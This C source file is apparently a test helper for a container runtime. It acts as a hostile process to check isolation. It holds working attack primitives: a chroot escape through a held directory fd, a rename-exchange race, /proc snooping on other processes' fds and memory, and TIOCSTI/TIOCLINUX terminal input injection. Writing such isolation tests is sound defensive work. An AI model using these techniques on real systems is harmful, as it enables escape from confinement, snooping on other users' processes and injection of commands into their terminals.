/* SPDX-License-Identifier: Apache-2.0
 *
 * What a hostile process does, as one static program: inside a container it attacks, outside it is the positive
 * control or the caller with something to lose (renameat2(2), chroot(2), keyrings(7), ioctl_tty(2)).
 *
 *   attacker swap A B [C D ...]     exchanges A with B, C with D ... for ever
 *   attacker breakout FILE          the chroot escapes; prints FILE as it is found at the top, or the errno name
 *   attacker spy SECONDS FILE       opens what /proc shows of every other process; one line "COMM WHAT" per success,
 *                                   and "COMM sees FILE" where FILE can be reached through that process
 *   attacker writable DIR...        the regular files below that can be opened for writing, one per line
 *   attacker inject                 TIOCSTI and TIOCLINUX on 0, 1, 2 and /dev/tty: "CALL N 0|errno name"
 *   attacker with-key TEXT ARGV...  execve in a new session keyring that holds the key minirt-canary
 *   attacker find-key               what keyctl(2) finds of it: its text, or the errno name
 *   attacker list-abstract          names of abstract unix sockets, one per line (unix(7))
 *   attacker dispositions           ignored and blocked signals, timer slack, CPUs and scheduler of this process */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *answer(long result)
{
    return result < 0 ? strerrorname_np(errno) : "0";
}

static int swap(char **names)
{
    puts("swapping");
    fflush(stdout);
    for (;;) {
        for (char **pair = names; pair[0] && pair[1]; pair += 2)
            if (syscall(SYS_renameat2, AT_FDCWD, pair[0], AT_FDCWD, pair[1], RENAME_EXCHANGE))
                return printf("%s\n", answer(-1)), 1;
        sched_yield();
    }
}

static int show(const char *path)
{
    char text[256];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
    if (size < 0)
        return printf("%s\n", answer(-1)), 1;
    text[size] = 0;
    fputs(text, stdout);
    return 0;
}

/* A root that is no mount's root, and a directory held from above it: the oldest way out of chroot(2). */
static int breakout(const char *file)
{
    mkdir("/tmp/jail", 0755);
    int above = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (chroot("/tmp/jail") || fchdir(above))
        return printf("%s\n", answer(-1)), 1;
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            break;
    if (chroot("."))
        return printf("%s\n", answer(-1)), 1;
    return show(file);
}

static const char *wanted = "";

static void read_name(const char *pid, char *name, size_t room)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? 0 : read(fd, name, room - 1);
    close(fd);
    name[size > 0 ? size - 1 : 0] = 0;
}

/* Named after what the process was called once the file was open: before it, it may have been another program. */
static void try_open(const char *pid, const char *what, int flags)
{
    char path[512], beyond[1024], name[64];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(beyond, sizeof beyond, "%s%s", path, wanted);
    bool sees = flags & O_DIRECTORY && access(beyond, F_OK) == 0;
    read_name(pid, name, sizeof name);
    printf("%s %s%s\n", name, what, (flags & O_ACCMODE) == O_WRONLY ? " writable" : "");
    if (sees)
        printf("%s sees %s\n", name, wanted);
    close(fd);
}

static void inspect(const char *pid)
{
    char what[16];
    try_open(pid, "root", O_RDONLY | O_DIRECTORY);
    try_open(pid, "cwd", O_RDONLY | O_DIRECTORY);
    for (int fd = 0; fd < 40; fd++) {
        snprintf(what, sizeof what, "fd/%d", fd); /* the list is anybody's of the same user, what is behind is not */
        try_open(pid, what, O_PATH | O_DIRECTORY);
    }
    try_open(pid, "mem", O_RDWR);
    try_open(pid, "exe", O_RDONLY);
    try_open(pid, "exe", O_WRONLY);
}

static int spy(double seconds)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    const double end = (double)now.tv_sec + (double)now.tv_nsec / 1e9 + seconds;
    puts("spying");
    fflush(stdout);
    do {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
                inspect(entry->d_name);
        if (proc)
            closedir(proc);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((double)now.tv_sec + (double)now.tv_nsec / 1e9 < end);
    return 0;
}

static int show_writable(const char *path, const struct stat *status, int type, struct FTW *walk)
{
    (void)walk;
    if (type != FTW_F || !S_ISREG(status->st_mode))
        return 0;
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd >= 0) {
        puts(path);
        close(fd);
    }
    return 0;
}

static int writable(char **folders)
{
    for (; *folders; folders++)
        nftw(*folders, show_writable, 64, FTW_PHYS);
    return 0;
}

static int inject(void)
{
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
    const int fds[] = {0, 1, 2, tty};
    char byte = '!', paste[2] = {3, 0}; /* TIOCL_PASTESEL */
    for (size_t i = 0; i < sizeof fds / sizeof *fds; i++) {
        printf("TIOCSTI %d %s\n", fds[i], answer(ioctl(fds[i], TIOCSTI, &byte)));
        printf("TIOCLINUX %d %s\n", fds[i], answer(ioctl(fds[i], TIOCLINUX, paste)));
    }
    return 0;
}

static int with_key(const char *text, char **argv)
{
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "minirt-test") < 0 ||
        syscall(SYS_add_key, "user", "minirt-canary", text, strlen(text), KEY_SPEC_SESSION_KEYRING) < 0)
        return perror("keys"), 1;
    execv(argv[0], argv);
    return perror(argv[0]), 127;
}

static int find_key(void)
{
    char text[64] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "minirt-canary", 0);
    if (key >= 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) >= 0)
        return puts(text), 0;
    return printf("%s\n", answer(-1)), 0;
}

static int list_abstract(void)
{
    char line[512], *name;
    FILE *file = fopen("/proc/net/unix", "re");
    while (file && fgets(line, sizeof line, file))
        if ((name = strchr(line, '@')))
            fputs(name, stdout);
    return 0;
}

static int dispositions(void)
{
    sigset_t blocked;
    sigprocmask(SIG_SETMASK, NULL, &blocked);
    for (int number = 1; number < NSIG; number++) {
        struct sigaction action;
        if (sigaction(number, NULL, &action) == 0 && action.sa_handler == SIG_IGN)
            printf("ignored %d\n", number);
        if (sigismember(&blocked, number) == 1)
            printf("blocked %d\n", number);
    }
    cpu_set_t cpus;
    sched_getaffinity(0, sizeof cpus, &cpus);
    printf("cpus %d\nscheduler %d\ntimer slack %d\n", CPU_COUNT(&cpus), sched_getscheduler(0),
           prctl(PR_GET_TIMERSLACK));
    return 0;
}

int main(int argc, char **argv)
{
    const char *verb = argc > 1 ? argv[1] : "", *first = argc > 2 ? argv[2] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(verb, "swap") && argc > 3)
        return swap(argv + 2);
    if (!strcmp(verb, "breakout"))
        return breakout(first);
    if (!strcmp(verb, "spy") && argc > 3)
        return wanted = argv[3], spy(atof(first));
    if (!strcmp(verb, "writable"))
        return writable(argv + 2);
    if (!strcmp(verb, "inject"))
        return inject();
    if (!strcmp(verb, "with-key") && argc > 3)
        return with_key(first, argv + 3);
    if (!strcmp(verb, "find-key"))
        return find_key();
    if (!strcmp(verb, "list-abstract"))
        return list_abstract();
    if (!strcmp(verb, "dispositions"))
        return dispositions();
    fprintf(stderr, "attacker: no verb %s\n", verb);
    return 2;
}
